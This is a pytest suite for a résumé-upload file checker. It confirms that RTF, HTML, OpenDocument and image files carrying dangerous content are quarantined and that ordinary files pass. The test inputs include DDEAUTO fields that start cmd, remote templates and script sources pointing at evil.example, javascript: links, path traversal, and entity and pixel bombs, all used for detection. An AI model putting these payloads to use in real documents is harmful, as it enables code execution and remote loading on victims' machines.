"""OpenDocument, Rich Text, web pages and images under the check."""

from __future__ import annotations

import io
import struct
import time
import zlib
from typing import Any

import pytest
from PIL import Image

from functions.intake_blob_trigger.rules import Code, Limits, Verdict, inspect_file
from tools import sample_hostile
from tools.sample_formats import HTML, ODT, RTF, as_html, as_odt, as_rtf, odt_of
from tools.sample_resumes import make_resume

RESUME = make_resume(3)


def check(data: bytes, limits: Limits | None = None) -> Verdict:
    return inspect_file(io.BytesIO(data), name="cv", size=len(data), limits=limits or Limits())


@pytest.mark.parametrize(
    ("data", "media_type"),
    [(as_odt(RESUME), ODT), (as_rtf(RESUME), RTF), (as_html(RESUME), HTML)],
    ids=["odt", "rtf", "html"],
)
def test_accepts_sound_documents(data: bytes, media_type: str) -> None:
    """A résumé in any of the formats passes as what it is."""
    assert check(data).media_type == media_type
    assert check(data).accepted


def rtf(body: str) -> bytes:
    return (r"{\rtf1\ansi Some text " + body + r"\par}").encode("latin-1")


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (r"{\object\objemb{\*\objdata 0105}}", Code.EMBEDDED),
        (r"{\*\objdata 0105}", Code.EMBEDDED),
        (r"\\\object", Code.EMBEDDED),
        (r"{\object\objautlink\objupdate}", Code.EMBEDDED),
        (r"{\field{\*\fldinst DDEAUTO c:\\x cmd}{\fldrslt a}}", Code.SCRIPT),
        (r"{\field{\*\fldinst {DD}{\b EAUTO} x}{\fldrslt a}}", Code.SCRIPT),
        (r"{\field{\*\fldinst \'44\u68?E x}{\fldrslt a}}", Code.SCRIPT),
        (r'{\field{\*\fldinst INCLUDEPICTURE "http://evil.example/a.png"}}', Code.EXTERNAL),
        (r'{\field{\*\fldinst INCLUDETEXT "\\\\\\\\server\\\\share\\\\a.doc"}}', Code.EXTERNAL),
        (r'{\field{\*\fldinst LINK Excel.Sheet "a.xls"}}', Code.EMBEDDED),
        (r"{\*\template http://evil.example/a.dotm}", Code.EXTERNAL),
        (r"{\*\template \\\\server\\share\\a.dotm}", Code.EXTERNAL),
    ],
)
def test_stops_dangerous_rich_text(body: str, code: Code) -> None:
    """Objects, fields that start programs, and what is loaded from elsewhere are quarantined."""
    verdict = check(rtf(body))
    assert verdict.quarantined
    assert verdict.code == code


@pytest.mark.parametrize(
    "body",
    [
        r'{\field{\*\fldinst HYPERLINK "https://github.com/me"}{\fldrslt me}}',
        r"Wrote \\object models and DDE servers",
        r"{\*\template C:\\Users\\me\\Normal.dotm}",
        r"{\pict\pngblip 89504e47}",
        r"{\field{\*\fldinst PAGE}{\fldrslt 1}}",
        r"\objective",
    ],
)
def test_accepts_what_word_processors_write(body: str) -> None:
    """Links, pictures, own templates, and words that only look dangerous pass."""
    assert check(rtf(body)).media_type == RTF


@pytest.mark.parametrize(
    "body", [r"{\fldinst " * 100_000, "\\" * 1_000_000, r"{\*\template " * 100_000]
)
def test_rich_text_is_checked_in_little_time(body: str) -> None:
    """Floods of fields do not hold up the check."""
    began = time.monotonic()
    check(rtf(body))
    assert time.monotonic() - began < 5


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ("<script>alert(1)</script>", Code.SCRIPT),
        ("<script src=//evil.example/a.js></script>", Code.SCRIPT),
        ("<SCRIPT\n>x", Code.SCRIPT),
        ("<script type='application/ld+json' >{}</script><script>x</script>", Code.SCRIPT),
        ("<p onclick='x()'>", Code.SCRIPT),
        ("<body/onload=x>", Code.SCRIPT),
        ("<a href=' java&#115;cript:x'>a</a>", Code.SCRIPT),
        ("<a href='java\tscript:x'>a</a>", Code.SCRIPT),
        ("<a href='data:text/html,x'>a</a>", Code.SCRIPT),
        ("<iframe src=a></iframe>", Code.EMBEDDED),
        ("<object data=a></object>", Code.EMBEDDED),
        ("<embed src=a>", Code.EMBEDDED),
        ("<meta http-equiv='Refresh' content='0; url=http://evil.example'>", Code.EXTERNAL),
    ],
)
def test_stops_dangerous_pages(body: str, code: Code) -> None:
    """Scripts, handlers, frames, objects and forwarding are quarantined."""
    for page in (f"<!DOCTYPE html><body><p>Hello</p>{body}</body>", f"<html>{body}"):
        assert check(page.encode()).code == code
    assert check(f"<html>{body}".encode("utf-16")).code == code


@pytest.mark.parametrize(
    "data",
    [
        b"<html>" + b"<a b=c>" * 1_000_000,
        rtf(r"{\fldinst a}" * 500_000),
        rtf(r"\fldinst{a}" * 500_000),
    ],
    ids=["tags", "fields", "open fields"],
)
def test_floods_of_parts_are_bombs(data: bytes) -> None:
    """A file of more tags or fields than any document has is not read to its end."""
    assert check(data).code == Code.BOMB


@pytest.mark.parametrize(
    "body",
    [
        '<script type=\'application/ld+json\'>{"@type": "Person"}</script>',
        "<script></script>",
        "<!-- <script>x</script> -->",
        "<p>Wrote javascript: the onclick= parts, &lt;script&gt; and iframes</p>",
        "<img src='data:image/png;base64,AAAA'><a href='https://x.org'>x</a>",
        "<style>p { color: red }</style>",
        "<p one=1 online>",
    ],
)
def test_accepts_pages_that_only_show(body: str) -> None:
    """Data for search engines, pictures, style sheets and words about scripts pass."""
    assert check(f"<!DOCTYPE html><html><body>{body}</body></html>".encode()).media_type == HTML


@pytest.mark.parametrize(
    "start",
    [
        "<?xml version='1.0'?>\n<!DOCTYPE html PUBLIC 'x'><html>",
        "\ufeff  <html>",
        "<!-- saved --><HTML>",
        "<h1>",
        "<table border=1>",
        "<meta charset=utf-8>",
    ],
)
def test_knows_a_web_page_by_its_start(start: str) -> None:
    """Pages begin in many ways; text that merely mentions a tag is text."""
    assert check(f"{start}Hello, this is a page".encode()).media_type == HTML
    assert check(f"Hello, this is text {start}".encode()).media_type == "text/plain"


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ("<office:event-listeners><script:event-listener/></office:event-listeners>", Code.MACROS),
        ('<text:section><text:section-source xlink:href="http://x.org/a"/>', Code.EXTERNAL),
        ('<draw:object xlink:href="https://x.org/a.ods"/>', Code.EXTERNAL),
        ('<draw:floating-frame xlink:href="//server/a"/>', Code.EXTERNAL),
        ("<text:section><office:dde-source/></text:section>", Code.SCRIPT),
        ('<draw:applet xlink:href="a"/>', Code.EMBEDDED),
        ('<draw:object-ole xlink:href="./Object 1"/>', Code.EMBEDDED),
    ],
)
def test_stops_dangerous_opendocuments(body: str, code: Code) -> None:
    """Event handlers, DDE, objects and what is loaded from elsewhere are quarantined."""
    verdict = check(odt_of(body))
    assert verdict.quarantined
    assert verdict.code == code


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("Basic/Standard/Module1", "<a/>", Code.MACROS),
        ("META-INF/manifest", "<m:file-entry><m:encryption-data/></m:file-entry>", Code.ENCRYPTED),
        ("meta", '<meta:template xlink:href="http://evil.example/a.ott"/>', Code.EXTERNAL),
        ("Object 1", sample_hostile.program(), Code.EXECUTABLE),
        ("../up", "<a/>", Code.UNSAFE_PATH),
        ("other", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', Code.BOMB),
        ("zeros", bytes(9_000_000), Code.BOMB),
    ],
)
def test_stops_dangerous_parts(name: str, content: Any, code: Code) -> None:
    """Macros, passwords, programs, paths and bombs are found in any part."""
    assert check(odt_of("<text:p>Hello</text:p>", **{name: content})).code == code


@pytest.mark.parametrize(
    "body",
    [
        '<text:a xlink:href="https://github.com/me">me</text:a>',
        '<draw:image xlink:href="Pictures/a.png"/>',
        '<draw:object xlink:href="./Object 1"/>',
        '<text:section><text:section-source xlink:href="file:///home/me/a.odt"/></text:section>',
        "<office:scripts/>",
    ],
)
def test_accepts_what_office_programs_write(body: str) -> None:
    """Links, pictures, charts and own files pass."""
    assert check(odt_of(body)).media_type == ODT


def picture(kind: str, size: tuple[int, int] = (40, 30), **options: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, kind, **options)
    return out.getvalue()


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "BMP", "TIFF", "WEBP"])
def test_images_by_their_headers(kind: str) -> None:
    """The size in the header decides, in every format; what is cut off is told."""
    data = picture(kind, (400, 300))
    assert check(data).media_type == f"image/{kind.lower()}"
    assert check(data, Limits(max_pixels=400 * 300)).accepted
    assert check(data, Limits(max_pixels=400 * 300 - 1)).code == Code.BOMB
    assert check(data[:8]).code in (Code.TRUNCATED, Code.DAMAGED, Code.UNKNOWN)


@pytest.mark.parametrize("options", [{"lossless": True}, {"exif": b"Exif\0\0MM\0*\0\0\0\x08\0\0"}])
def test_kinds_of_webp(options: dict[str, Any]) -> None:
    """Each of the three kinds of WebP files states its size in its own way."""
    data = picture("WEBP", (400, 300), **options)
    assert check(data, Limits(max_pixels=400 * 300)).accepted
    assert check(data, Limits(max_pixels=400 * 300 - 1)).code == Code.BOMB


def test_every_page_of_a_tiff_counts() -> None:
    """A large page behind a small one is found; a chain of pages that loops ends."""
    pages = [Image.new("L", (40, 30)), Image.new("L", (400, 300))]
    out = io.BytesIO()
    pages[0].save(out, "TIFF", save_all=True, append_images=pages[1:])
    assert check(out.getvalue(), Limits(max_pixels=400 * 300 - 1)).code == Code.BOMB
    looping = struct.pack("<2sHIHHHIIHHIII", b"II", 42, 8, 2, 256, 4, 1, 9, 257, 4, 1, 9, 8)
    assert check(looping).accepted


def test_a_small_file_of_many_pixels() -> None:
    """A few bytes that promise a thousand million pixels are a bomb."""
    header = struct.pack(">II5B", 60_000, 60_000, 8, 0, 0, 0, 0)
    chunk = struct.pack(">I4s", 13, b"IHDR") + header
    data = b"\x89PNG\r\n\x1a\n" + chunk + struct.pack(">I", zlib.crc32(b"IHDR" + header))
    assert check(data).code == Code.BOMB
